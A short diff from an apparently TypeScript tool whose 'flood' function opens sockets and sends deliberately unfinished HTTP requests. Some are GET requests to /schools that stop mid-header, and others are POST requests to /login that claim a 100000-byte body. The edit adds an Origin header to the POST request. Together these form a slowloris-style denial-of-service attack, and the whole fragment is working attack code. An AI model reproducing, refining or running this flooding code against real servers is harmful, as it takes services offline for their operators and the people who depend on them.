@@ -31,7 +31,7 @@ function flood(i: number) {
     socket.write(
       i % 2 === 0
         ? `GET /schools HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `
-        : `POST /login HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n`,
+        : `POST /login HTTP/1.1\r\nHost: ${host}\r\nOrigin: http://${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n`,
     );
   });
   socket.once("close", () => {
